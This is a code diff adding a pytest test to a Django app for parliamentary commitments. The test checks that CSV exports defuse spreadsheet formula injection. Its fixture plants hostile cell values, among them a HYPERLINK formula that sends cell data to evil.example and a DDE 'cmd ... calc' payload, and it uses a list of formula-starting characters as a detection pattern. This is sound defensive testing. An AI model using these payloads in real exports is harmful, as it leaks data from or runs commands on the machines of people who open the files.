@@ -5,17 +5,26 @@ import io
 import json
 import zipfile
 from datetime import date
+from decimal import Decimal
 
 import feedparser
 import pytest
 from django.core.cache import cache
+from django.utils import timezone
 
 from commitments.loading import load_demo
-from commitments.models import Commitment
+from commitments.models import Commitment, Evidence
 from commitments.public.filters import CommitmentFilter
 from commitments.services import record_status_change
 
-from .factories import CommitmentFactory, FigureTableFactory
+from .factories import (
+    CommitmentFactory,
+    EvidenceFactory,
+    FigureCellFactory,
+    FigureTableFactory,
+    QuestionEventFactory,
+    WrittenQuestionFactory,
+)
 
 
 @pytest.fixture(autouse=True)
@@ -119,6 +128,71 @@ def test_whole_dataset_zip_keeps_suppressed_cells_empty_never_zero(client, demo)
     data = json.loads(archive.read("data.json"))
     assert len(data["commitments"]) == 33
     assert all(c["value"] is None for c in data["figure_cells"] if c["kind"] in ("suppressed", "nil"))
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"IPP")'
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture
+def hostile_cells(db):
+    """Editors' and Parliament's text, each starting the way a spreadsheet formula does."""
+    commitment = CommitmentFactory(title=FORMULA, owner="@SUM(1+1)", summary="+44 cmd|' /C calc'!A0")
+    question = WrittenQuestionFactory(
+        uin="-3",
+        heading="=1+1",
+        asking_member="@evil",
+        answering_member="+evil",
+        answering_body="\t=1+1",
+    )
+    EvidenceFactory(
+        commitment=commitment,
+        question=question,
+        excerpt="\r=1+1",
+        state=Evidence.State.CONFIRMED,
+        reviewed_at=timezone.now(),
+    )
+    QuestionEventFactory(question=question)
+    record_status_change(commitment, to="delayed", reason="-1+2", effective_on=date(2025, 1, 1))
+    FigureCellFactory(
+        row__table__question=question,
+        row__label="=row",
+        column__label="+column",
+        value=Decimal("-3"),
+        published="-3",
+    )
+    return commitment
+
+
+def _zip_csvs(client) -> dict[str, list[dict]]:
+    response = client.get("/exports/ipp-tracker-data.zip")
+    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
+    return {
+        name.removesuffix(".csv"): list(csv.DictReader(io.StringIO(archive.read(name).decode())))
+        for name in archive.namelist()
+        if name.endswith(".csv")
+    } | {"data": json.loads(archive.read("data.json"))}
+
+
+def test_no_csv_cell_starts_like_a_formula_but_our_own_numbers_stay_numbers(client, hostile_cells):
+    tables = _zip_csvs(client)
+    data = tables.pop("data")
+    tables["commitments_export"] = _csv(client, "/exports/commitments.csv")
+    tables["questions_export"] = _csv(client, "/exports/questions.csv")
+    assert len(tables) == 8 and all(tables.values())
+    for name, rows in tables.items():
+        for row in rows:
+            for column, cell in row.items():
+                if column != "value":  # figure values: a number from our own numeric field
+                    assert not cell.startswith(FORMULA_STARTS), (name, column, cell)
+    assert tables["commitments"][0]["title"] == tables["commitments_export"][0]["title"] == "'" + FORMULA
+    assert tables["questions_export"][0]["uin"] == "'-3"  # Parliament's text, not our number
+    assert tables["evidence"][0]["excerpt"] == "'\r=1+1"
+    [cell] = tables["figure_cells"]
+    assert (cell["row_label"], cell["column_label"], cell["published"]) == ("'=row", "'+column", "'-3")
+    assert Decimal(cell["value"]) == -3
+    # The JSON in the same zip is not a spreadsheet: it keeps the text as stored.
+    assert data["commitments"][0]["title"] == FORMULA
 
 
 def test_api_lists_and_filters_like_the_pages(client, demo):
